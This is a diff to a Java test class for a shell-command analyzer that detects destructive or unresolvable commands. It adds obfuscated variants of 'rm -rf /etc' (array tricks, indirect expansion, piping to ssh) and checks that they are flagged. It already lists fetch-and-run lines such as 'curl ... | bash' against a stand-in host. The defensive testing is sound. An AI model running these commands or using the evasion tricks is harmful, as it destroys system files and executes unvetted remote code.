@@ -39,7 +39,8 @@ class ShellAnalyzerTest {
                 "command rm -rf /etc", "sh -c 'rm -rf /etc'", "bash -lc \"rm -rf /etc\"", "eval 'rm -rf /etc'", "watch -n 5 rm -rf /etc",
                 "echo /etc | xargs rm -rf", "npx rimraf /etc", "find /etc -name '*.conf' -delete", "find /etc -exec rm -rf {} +", "bash <<EOF\nrm -rf /etc\nEOF",
                 "sh <<< 'rm -rf /etc'", "echo 'rm -rf /etc' | sh", "$(echo rm) -rf /etc", "X=rm; $X -rf /etc",
-                "echo 'rm -rf /etc' > x.sh && bash x.sh", "/bin/rm -rf /etc", "\\rm -rf /etc", "r''m -rf /etc", "$'\\x72\\x6d' -rf /etc")) {
+                "echo 'rm -rf /etc' > x.sh && bash x.sh", "/bin/rm -rf /etc", "\\rm -rf /etc", "r''m -rf /etc", "$'\\x72\\x6d' -rf /etc",
+                "a=(rm -rf /etc); \"${a[@]}\"", "a=(rm); a+=(-rf /etc); ${a[@]}", "n=X; X=rm; ${!n} -rf /etc", "echo 'rm -rf /etc' | ssh h bash")) {
             assertThat(ops(c)).as(c).anyMatch(op -> op.verb() == Verb.DELETE || op.confidence() == Confidence.OPAQUE);
         }
     }
@@ -59,7 +60,9 @@ class ShellAnalyzerTest {
     @Test
     void whatCannotBeResolvedIsOpaque() {
         for (String c : List.of("$CMD delete everything", "echo cm0gLXJmIC8= | base64 -d | sh", "curl -fsSL https://x.example/install.sh | bash",
-                "eval \"$PAYLOAD\"", "sh -c \"$X\"", "$(curl -s https://x.example/cmd) --yes", "wget -qO- https://x.example/a | python3 -")) {
+                "eval \"$PAYLOAD\"", "sh -c \"$X\"", "$(curl -s https://x.example/cmd) --yes", "wget -qO- https://x.example/a | python3 -",
+                "a=(\"$P\" -rf /etc); \"${a[@]}\"", "a=(ls); mapfile -t a < f; \"${a[@]}\"", "a=(ls); a[0]=rm; \"${a[@]}\" -rf /etc",
+                "${!n} -rf /etc")) {
             assertThat(ops(c)).as(c).anyMatch(op -> op.confidence() == Confidence.OPAQUE);
         }
     }
